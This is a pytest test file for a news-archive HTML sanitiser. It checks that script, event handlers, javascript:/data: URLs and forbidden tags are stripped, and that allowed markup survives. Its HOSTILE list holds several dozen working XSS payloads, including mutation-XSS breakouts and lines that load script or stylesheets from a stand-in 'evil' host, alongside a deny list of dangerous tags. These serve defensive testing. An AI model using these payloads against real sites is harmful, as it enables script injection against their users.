"""The sanitiser: hostile markup in, only the allow-list out.

Outputs are checked by parsing them with html5lib (a browser-faithful parser),
not by searching strings, so escaped text such as "&lt;script&gt;" is not
mistaken for a surviving element and a surviving element is never missed.
"""

from __future__ import annotations

import re
from pathlib import Path

import html5lib
import pytest
from lxml import etree

from newsvault.clean import ImagePolicy, display_html, sanitize

FORBIDDEN_TAGS = {
    "script",
    "style",
    "iframe",
    "frame",
    "frameset",
    "object",
    "embed",
    "applet",
    "form",
    "input",
    "button",
    "textarea",
    "select",
    "svg",
    "math",
    "link",
    "meta",
    "base",
    "noscript",
    "template",
}
_IGNORED = re.compile(r"[\x00-\x20]")


def problems(html: str) -> list[str]:
    """Everything in `html` that could run script or restyle the page, as a browser parses it."""
    found = []
    tree = html5lib.parseFragment(html, treebuilder="etree", namespaceHTMLElements=False)
    for element in tree.iter():
        if not isinstance(element.tag, str):
            continue
        tag = element.tag.split("}")[-1].lower()
        if tag in FORBIDDEN_TAGS:
            found.append(f"<{tag}>")
        for name, value in element.attrib.items():
            name = name.split("}")[-1].lower()
            url = _IGNORED.sub("", value).lower()
            if name.startswith("on") or name == "style":
                found.append(f"{tag}@{name}")
            for candidate in url.split(",") if name == "srcset" else [url]:
                if candidate.startswith(("javascript:", "vbscript:", "livescript:")):
                    found.append(f"{tag}@{name}={value!r}")
                if candidate.startswith("data:") and not (
                    tag == "img" and name == "src" and candidate.startswith("data:image/")
                ):
                    found.append(f"{tag}@{name}={value!r}")
    return found


HOSTILE = [
    "<script>alert(1)</script>",
    "<SCRIPT SRC=//evil/x.js></SCRIPT>",
    "<img src=x onerror=alert(1)>",
    '<img src="javascript:alert(1)">',
    '<img src="jav&#x09;ascript:alert(1)">',
    '<img src=" &#14;  javascript:alert(1)">',
    '<img srcset="javascript:alert(1) 1x, https://ok.example/a.jpg 2x">',
    '<a href="JaVaScRiPt:alert(1)">x</a>',
    '<a href="java\nscript:alert(1)">x</a>',
    '<a href="vbscript:msgbox(1)">x</a>',
    '<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">x</a>',
    '<img src="data:text/html,<script>alert(1)</script>">',
    '<img src="data:image/svg+xml,<svg onload=alert(1)>">',
    '<blockquote cite="javascript:alert(1)">q</blockquote>',
    '<iframe src="https://evil.example/"></iframe>',
    '<object data="x.swf"><embed src="x.swf"></object>',
    '<form action="https://evil.example/"><input name=p><button>go</button></form>',
    '<p style="background:url(javascript:alert(1))">x</p>',
    "<style>body{display:none}</style>",
    "<svg><script>alert(1)</script></svg>",
    "<svg onload=alert(1)>",
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
    '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
    "<body onload=alert(1)>",
    '<div onmouseover="alert(1)">x</div>',
    "<a href=x onclick=alert(1)>x</a>",
    '<base href="javascript:/"><a href="/x">x</a>',
    '<meta http-equiv="refresh" content="0;url=javascript:alert(1)">',
    '<link rel=stylesheet href="//evil/x.css">',
    "<template><script>alert(1)</script></template>",
    "<!--<img src=x onerror=alert(1)>-->",
    "<<script>script>alert(1)<</script>/script>",
    "<img src=`x`onerror=alert(1)>",
    "<details open ontoggle=alert(1)>",
    "<video><source onerror=alert(1)></video>",
]


@pytest.mark.parametrize("html", HOSTILE)
def test_hostile_markup_is_neutralised(html: str) -> None:
    assert problems(sanitize(html)) == []
    for policy in (ImagePolicy("keep"), ImagePolicy("proxy"), ImagePolicy("mirror")):
        assert problems(display_html(html, "https://news.example/a/b.html", policy)) == []


def test_the_checker_itself_sees_what_it_must_refuse() -> None:
    assert problems('<img src=x onerror=alert(1)><a href=" java\tscript:x">') == [
        "img@onerror",
        "a@href=' java\\tscript:x'",
    ]
    assert problems("&lt;script&gt;alert(1)&lt;/script&gt;") == []


def test_structure_and_emphasis_survive() -> None:
    html = (
        "<h2>H</h2><p><b>b</b> <strong>s</strong> <i>i</i> <em>e</em> <u>u</u> <sub>1</sub>"
        '<sup>2</sup> <code>c</code></p><ul><li>one</li></ul><ol start="3"><li>three</li></ol>'
        '<table><caption>Cap</caption><thead><tr><th scope="col">h</th></tr></thead>'
        '<tbody><tr><td colspan="2">d</td></tr></tbody></table>'
        '<figure><img src="https://i.example/a.jpg" alt="照片"><figcaption>图片说明</figcaption></figure>'
        '<blockquote cite="https://q.example/">q</blockquote><hr><br>'
    )
    assert sanitize(html) == (
        "<h2>H</h2><p><b>b</b> <strong>s</strong> <i>i</i> <em>e</em> <u>u</u> <sub>1</sub>"
        '<sup>2</sup> <code>c</code></p><ul><li>one</li></ul><ol start="3"><li>three</li></ol>'
        '<table><caption>Cap</caption><thead><tr><th scope="col">h</th></tr></thead>'
        '<tbody><tr><td colspan="2">d</td></tr></tbody></table>'
        '<figure><img src="https://i.example/a.jpg" alt="照片" referrerpolicy="no-referrer">'
        "<figcaption>图片说明</figcaption></figure>"
        '<blockquote cite="https://q.example/">q</blockquote><hr><br>'
    )


def test_links_get_rel_and_images_no_referrer() -> None:
    out = sanitize(
        '<a href="https://x.example/" rel="opener" target="_blank">x</a>'
        '<img src="https://i.example/a.png" referrerpolicy="unsafe-url">'
    )
    assert out == (
        '<a href="https://x.example/" rel="noopener noreferrer">x</a>'
        '<img src="https://i.example/a.png" referrerpolicy="no-referrer">'
    )


def test_data_urls_only_for_raster_images() -> None:
    png = "data:image/png;base64,iVBORw0KGgo="
    assert sanitize(f'<img src="{png}">') == f'<img src="{png}" referrerpolicy="no-referrer">'
    assert sanitize('<img src="data:image/svg+xml;base64,PHN2Zz4=">') == '<img referrerpolicy="no-referrer">'
    assert sanitize(f'<a href="{png}">x</a>') == '<a rel="noopener noreferrer">x</a>'


def test_text_inside_dropped_controls_is_kept_where_it_is_prose() -> None:
    assert sanitize("<form><p>正文</p></form><script>x</script>尾") == "<p>正文</p>尾"


# -- feedparser's sanitize corpus as hostile input --------------------------------------

XHTML = "{http://www.w3.org/1999/xhtml}"


def payloads(path: Path) -> list[str]:
    """Every markup string of a test feed: escaped text and inline XHTML alike."""
    parser = etree.XMLParser(recover=True, resolve_entities=False, no_network=True)
    root = etree.parse(str(path), parser).getroot()
    found = []
    for element in root.iter(etree.Element):
        if element.text and ("<" in element.text or "&" in element.text):
            found.append(element.text)
        if any(isinstance(c.tag, str) and c.tag.startswith(XHTML) for c in element):
            found.append((element.text or "") + "".join(etree.tostring(c, encoding="unicode") for c in element))
    return found


@pytest.fixture(scope="module")
def corpus(shared: Path) -> list[tuple[str, str]]:
    folder = shared / "peer-tests" / "feedparser" / "wellformed" / "sanitize"
    files = sorted(folder.glob("*.xml"))
    assert len(files) == 745
    return [(f.name, p) for f in files for p in payloads(f)]


def test_feedparser_sanitize_corpus_leaves_nothing_active(corpus: list[tuple[str, str]]) -> None:
    assert len(corpus) > 700
    failures = {}
    for name, html in corpus:
        for out in (sanitize(html), display_html(html, "https://feed.example/", ImagePolicy())):
            found = problems(out)
            if found:
                failures[name] = found
    assert failures == {}


def test_feedparser_corpus_really_is_hostile(corpus: list[tuple[str, str]]) -> None:
    """Guards the test above against reading nothing: the inputs do carry what must go."""
    hostile = [name for name, html in corpus if problems(html)]
    assert len(hostile) > 400
